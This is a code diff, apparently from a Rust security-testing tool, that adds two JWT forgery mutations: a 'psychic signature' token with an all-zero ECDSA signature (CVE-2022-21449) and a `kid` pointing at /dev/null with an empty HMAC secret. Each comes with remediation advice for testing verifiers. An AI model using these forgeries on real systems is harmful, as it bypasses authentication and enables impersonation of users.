@@ -100,6 +100,26 @@ const ROWS: &[Mutation] = &[
         ..BASE
     },
     Mutation {
+        id: "jwt-es-psychic-der",
+        about: "other claims under an ECDSA signature of two zeros in DER",
+        explain: "Zeros are taken for an ECDSA signature, so that anybody writes the token they like. Update the library that verifies (CVE-2022-21449).",
+        refs: &["WSTG-SESS-10", "CWE-347"],
+        attacks: Attacks::Yes,
+        apply: |p, _| {
+            let (_, read) = p.jwt()?;
+            if !read.header().get("alg").and_then(Value::as_str).is_some_and(|alg| alg.starts_with("ES")) {
+                return Err(Unfit::not_here("the token is not signed with ECDSA"));
+            }
+            let (payload, zeros) = (tampered(&read)?, encode([0x30, 6, 2, 1, 0, 2, 1, 0]));
+            signed(
+                p,
+                |[h, _, _]| format!("{h}.{payload}.{zeros}"),
+                "the claims are others, and the signature is two zeros in DER",
+            )
+        },
+        ..BASE
+    },
+    Mutation {
         id: "jwt-alg-none",
         about: "`alg: none` without a signature",
         explain: HEADER_RULES,
@@ -286,6 +306,18 @@ const ROWS: &[Mutation] = &[
         ..BASE
     },
     Mutation {
+        id: "jwt-kid-path-root",
+        about: "a `kid` that is the path of an empty file from the root, signed with an empty secret",
+        explain: KID,
+        refs: &["WSTG-SESS-10", "CWE-22"],
+        attacks: Attacks::Yes,
+        // HMAC fills a secret up with zeros, so that an empty one and one of NUL bytes are the same.
+        apply: |p, _| {
+            hs256(p, b"", Some("/dev/null".into()), "`kid` is the path of an empty file, and the secret is empty")
+        },
+        ..BASE
+    },
+    Mutation {
         id: "jwt-kid-sqli",
         about: "a `kid` that is SQL and selects the secret which signs the token",
         explain: KID,
@@ -363,7 +395,7 @@ fn unsigned(p: &Presented<'_>, word: &str, keep: bool) -> Result<Forged, Unfit> 
 }
 
 /// The token signed with HS256 and a secret that the server should not have.
-fn hs256(p: &Presented<'_>, secret: &[u8], kid: Option<String>, change: &str) -> Result<Forged, Unfit> {
+pub(super) fn hs256(p: &Presented<'_>, secret: &[u8], kid: Option<String>, change: &str) -> Result<Forged, Unfit> {
     let (_, read): (&str, Token) = p.jwt()?;
     let head = with_header(&read, |h| {
         h.insert("alg".to_owned(), "HS256".into());
